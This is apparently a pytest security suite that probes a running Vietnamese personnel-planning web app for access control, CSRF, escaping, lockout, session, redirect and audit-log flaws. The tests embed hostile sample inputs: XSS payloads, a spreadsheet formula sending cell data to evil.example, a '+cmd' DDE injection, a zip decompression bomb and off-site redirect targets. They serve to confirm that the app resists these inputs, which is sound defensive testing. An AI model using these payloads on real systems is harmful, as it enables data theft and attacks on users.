"""Probes against a running server (issue 12): the app served on loopback by waitress, as
`quyhoach serve` serves it, and a hostile client speaking HTTP to it — its own cookies, the
CSRF token it can read from a page, the files it uploads. Each probe is what an attacker
would try, and what a user would check afterwards."""

from __future__ import annotations

import csv
import io
import re
import threading
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa
from sqlmodel import Session, select

from quyhoach.db.models import AuditEntry, AuditHead, Scenario
from quyhoach.services import rotation

from tests.security.conftest import PASSWORD

pytestmark = pytest.mark.security

SCRIPT = "<script>alert('xss')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def _signed_out(response) -> bool:
    """The answer a client without a valid session gets: the sign-in page (or 401 for htmx)."""
    return response.status_code == 401 or (
        response.status_code in (302, 303) and "/dang-nhap" in response.headers.get("Location", ""))


# --------------------------------------------------------------------------- roles

PAGES = ["/", "/to-chuc/", "/can-bo/", "/quy-hoach/", "/luan-chuyen/", "/danh-gia/", "/bao-cao/"]
ADMIN_PAGES = ["/quan-tri/nguoi-dung", "/quan-tri/nhat-ky", "/quan-tri/sao-luu"]


def test_each_role_reads_its_pages_and_is_refused_the_admin_pages_in_vietnamese(live):
    anonymous = live.client()
    for path in PAGES + ADMIN_PAGES:
        assert _signed_out(anonymous.get(live.url + path, allow_redirects=False)), path
    for role in live.users:
        http = live.client(role)
        for path in PAGES:
            assert http.get(live.url + path).status_code == 200, (role, path)
        for path in ADMIN_PAGES:
            response = http.get(live.url + path)
            if role == "admin":
                assert response.status_code == 200, path
            else:
                # the refusal is a page of the app, in Vietnamese, not Werkzeug's "Forbidden"
                assert response.status_code == 403, (role, path)
                assert "không có quyền" in response.text and 'class="topbar"' in response.text
                assert "Forbidden" not in response.text


def test_an_htmx_refusal_comes_with_its_message_for_the_flash_area(live):
    viewer = live.client("viewer")
    response = viewer.get(live.url + "/quan-tri/nhat-ky", headers={"HX-Request": "true"})
    assert response.status_code == 403
    assert response.headers["HX-Retarget"] == "#flash-area" and response.headers["X-Refusal"] == "1"
    assert 'class="flash flash-error"' in response.text and "không có quyền" in response.text
    assert "<html" not in response.text
    # and the pages have the area it goes into
    assert 'id="flash-area"' in viewer.get(live.url + "/").text


# --------------------------------------------------------------------------- CSRF

def test_a_post_without_the_csrf_token_is_refused(live):
    officer = live.client("org_board")
    before = officer.get(live.url + "/luan-chuyen/").text.count("Phương án của kẻ gian")
    form = {"ten": "Phương án của kẻ gian", "ngay": "01/06/2027"}
    refused = officer.post(live.url + "/luan-chuyen/", data=form, allow_redirects=False)
    assert refused.status_code == 400 and "mã bảo vệ" in refused.text
    forged = officer.post(live.url + "/luan-chuyen/", data={**form, "csrf_token": "forged"}, allow_redirects=False)
    assert forged.status_code == 400
    assert officer.get(live.url + "/luan-chuyen/").text.count("Phương án của kẻ gian") == before
    # signing in needs it too (no login CSRF)
    http = live.client()
    response = http.post(live.url + "/dang-nhap", data={"username": live.users["admin"], "password": PASSWORD},
                         allow_redirects=False)
    assert response.status_code == 400


# --------------------------------------------------------------------------- stored XSS, formulas

def _import_cadres(live, http, rows: list[dict]) -> None:
    template = http.get(live.url + "/nhap-du-lieu/mau/cadres.csv").content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(template)))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(name, "") for name in header])
    data = out.getvalue().encode("utf-8")
    token = live.csrf(http, "/nhap-du-lieu/")
    checked = http.post(live.url + "/nhap-du-lieu/kiem-tra", data={"kind": "cadres", "csrf_token": token},
                        files={"file": ("can-bo.csv", data, "text/csv")})
    assert checked.status_code == 200, re.sub(r"\s+", " ", checked.text)[-1500:]
    upload = re.search(r'name="token" value="([^"]+)"', checked.text).group(1)
    done = http.post(live.url + "/nhap-du-lieu/ghi", data={"kind": "cadres", "token": upload, "csrf_token": token},
                     allow_redirects=False)
    assert done.status_code in (302, 303), re.sub(r"\s+", " ", done.text)[-1500:]


HOSTILE = [
    {"Mã cán bộ": "XSS001", "Họ và tên": f"Nguyễn {SCRIPT} Văn", "Ngày sinh": "01/02/1980", "Giới tính": "Nam",
     "Dân tộc": "Kinh", "Quê quán": '"><img src=x onerror=alert(1)>',
     "Ghi chú": FORMULA},
    {"Mã cán bộ": "XSS002", "Họ và tên": "Lò Thị \\u0041 \\1 Hoa", "Ngày sinh": "03/04/1985", "Giới tính": "Nữ",
     "Dân tộc": "Kinh", "Quê quán": "+cmd|' /C calc'!A0"},
]


def _no_live_markup(text: str, where: str) -> None:
    assert SCRIPT not in text and "<img src=x" not in text, where


def test_names_with_markup_and_formulas_imported_show_escaped_everywhere(live):
    officer = live.client("org_board")
    _import_cadres(live, officer, HOSTILE)
    pages = ["/can-bo/?q=XSS", "/can-bo/XSS001", "/can-bo/XSS002", "/bao-cao/ho-so/XSS001",
             "/bao-cao/ho-so/XSS002", "/quan-tri/nhat-ky"]
    admin = live.client("admin")
    for path in pages:
        response = (admin if path.startswith("/quan-tri") else officer).get(live.url + path)
        assert response.status_code == 200, path
        _no_live_markup(response.text, path)
    dossier = officer.get(live.url + "/can-bo/XSS001").text
    assert "&lt;script&gt;alert(" in dossier
    # the dossier with the backslash name draws its chart (the SVG title escaped, no 500)
    assert "Lò Thị \\u0041 \\1 Hoa" in officer.get(live.url + "/bao-cao/ho-so/XSS002").text

    # exports: text, never a formula a spreadsheet runs
    rows = list(csv.reader(io.StringIO(officer.get(live.url + "/nhap-du-lieu/xuat/cadres.csv").content
                                       .decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'+cmd|' /C calc'!A0" in cells
    book = openpyxl.load_workbook(io.BytesIO(officer.get(live.url + "/nhap-du-lieu/xuat/cadres.xlsx").content))
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert formulas and all(c.data_type == "s" and c.quotePrefix for c in formulas)


def test_a_decompression_bomb_is_refused_and_the_server_keeps_serving(live):
    officer = live.client("org_board")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"A" * (60 * 1024 * 1024) + b"</sst>")
    assert len(bomb.getvalue()) < 200_000   # 60 MB unpacked from a file of a few kB
    token = live.csrf(officer, "/nhap-du-lieu/")
    response = officer.post(live.url + "/nhap-du-lieu/kiem-tra", data={"kind": "cadres", "csrf_token": token},
                            files={"file": ("bom.xlsx", bomb.getvalue(), "application/octet-stream")})
    assert response.status_code == 422 and "giải nén" in response.text.lower(), response.text[-800:]
    assert officer.get(live.url + "/").status_code == 200


# --------------------------------------------------------------------------- sign-in and sessions

def test_lockout_after_five_failures_then_the_command_line_unlocks(live):
    name = live.users["org_board"]
    http = live.client()
    answers = [live.sign_in(http, name, "sai-mat-khau-9") for _ in range(5)]
    assert [a.status_code for a in answers] == [401] * 5
    locked = live.sign_in(http, name, PASSWORD)
    # a locked account answers exactly as a wrong password does
    assert locked.status_code == 401 and _login_error(locked.text) == _login_error(answers[0].text)
    result = live.cli("user", "unlock", name)
    assert result.exit_code == 0, result.output
    assert live.sign_in(http, name, PASSWORD).status_code == 302
    with Session(live.engine) as session:
        actions = [e.action for e in session.exec(select(AuditEntry).where(AuditEntry.entity == f"user:{name}"))]
    assert "user.unlock" in actions and any("lock" in a for a in actions if a != "user.unlock")


def _login_error(page: str) -> str:
    return re.search(r'class="flash flash-error"[^>]*>([^<]*)<', page).group(1)


def test_a_cookie_saved_before_sign_out_or_a_password_reset_stops_working(live):
    officer = live.client("org_board")
    saved = dict(officer.cookies)
    assert officer.get(live.url + "/can-bo/").status_code == 200
    officer.post(live.url + "/dang-xuat", data={"csrf_token": live.csrf(officer, "/")})
    replay = live.client()
    replay.cookies.update(saved)
    assert _signed_out(replay.get(live.url + "/can-bo/", allow_redirects=False))

    viewer = live.client("viewer")
    kept = dict(viewer.cookies)
    admin = live.client("admin")
    with Session(live.engine) as session:
        from quyhoach.db.models import User

        user_id = session.exec(select(User.id).where(User.username == live.users["viewer"])).one()
    reset = admin.post(live.url + f"/quan-tri/nguoi-dung/{user_id}/mat-khau",
                       data={"password": "mat-khau-moi-2027", "csrf_token": live.csrf(admin, "/quan-tri/nguoi-dung")})
    assert reset.status_code == 200 and "Đã đặt lại mật khẩu" in reset.text
    replay = live.client()
    replay.cookies.update(kept)
    assert _signed_out(replay.get(live.url + "/can-bo/", allow_redirects=False))


OFF_SITE = ["//evil.example", "/%09/evil.example", "/\\evil.example", "https://evil.example/", "javascript:alert(1)",
            "/%5Cevil.example", "%2F%2Fevil.example", "///evil.example"]


def test_sign_in_never_redirects_off_the_site(live):
    for target in OFF_SITE:
        response = live.sign_in(live.client(), live.users["viewer"], next_=target)
        assert response.status_code == 302, target
        location = response.headers["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")) and "evil" not in location, target
    # a path on the site is followed
    response = live.sign_in(live.client(), live.users["viewer"], next_="/can-bo/")
    assert response.headers["Location"] == "/can-bo/"


# --------------------------------------------------------------------------- the audit log

def test_audit_truncation_and_forgery_are_found_by_audit_verify(live):
    officer = live.client("org_board")
    _import_cadres(live, officer, HOSTILE[:1])
    assert officer.get(live.url + "/nhap-du-lieu/xuat/cadres.csv").status_code == 200   # a read: anchors the head
    assert live.cli("audit", "verify").exit_code == 0
    with Session(live.engine) as session:
        entries = session.exec(select(AuditEntry).order_by(AuditEntry.seq)).all()
    assert len(entries) >= 3
    # forgery: an entry's words changed and the whole chain recomputed as plain SHA-256
    import hashlib

    from tests.security.test_audit_chain import rewrite

    with Session(live.engine) as session:
        rewrite(live.engine, session, {"actor": "nguoi.khac"}, entries[0].seq,
                lambda body: hashlib.sha256(body).hexdigest())
    forged = live.cli("audit", "verify")
    assert forged.exit_code != 0 and "KHÔNG toàn vẹn" in forged.output


def test_deleting_the_tail_of_the_audit_log_is_found(live):
    officer = live.client("org_board")
    _import_cadres(live, officer, HOSTILE[:1])
    assert officer.get(live.url + "/nhap-du-lieu/xuat/cadres.csv").status_code == 200
    with Session(live.engine) as session:
        last = session.exec(select(AuditEntry).order_by(AuditEntry.seq.desc())).first()
        keep = session.exec(select(AuditEntry).where(AuditEntry.seq == last.seq - 2)).one()
    with live.engine.begin() as connection:
        connection.execute(sa.delete(AuditEntry).where(AuditEntry.seq > keep.seq))
        connection.execute(sa.update(AuditHead).where(AuditHead.id == 1).values(seq=keep.seq, last_hash=keep.hash))
    truncated = live.cli("audit", "verify")
    assert truncated.exit_code != 0 and "KHÔNG toàn vẹn" in truncated.output


# --------------------------------------------------------------------------- concurrent saves

def test_concurrent_saves_of_one_version_accept_exactly_one(live):
    from tests.web.test_scenarios import _form

    officer = live.client("org_board")
    token = live.csrf(officer, "/luan-chuyen/")
    created = officer.post(live.url + "/luan-chuyen/", data={"ten": "Cùng lúc", "ngay": "01/06/2027", "csrf_token": token},
                           allow_redirects=False)
    assert created.status_code == 303, created.text[-500:]
    path = created.headers["Location"]
    scenario_id = int(path.rstrip("/").split("/")[-1])
    threads, answers = 6, []
    barrier = threading.Barrier(threads)

    def save(i: int) -> None:
        http = live.client("org_board")
        form = {**_form(rotation.ScenarioSettings(), name=f"Bản số {i}", version=1), "csrf_token": live.csrf(http, "/")}
        barrier.wait()
        answers.append(http.post(live.url + f"/luan-chuyen/{scenario_id}", data=form, headers={"HX-Request": "true"}))

    workers = [threading.Thread(target=save, args=(i,)) for i in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    codes = sorted(a.status_code for a in answers)
    assert codes == [200] + [409] * (threads - 1), codes
    with Session(live.engine) as session:
        saved = session.get(Scenario, scenario_id)
    winner = next(a for a in answers if a.status_code == 200)
    assert saved.version == 2 and saved.name in winner.text
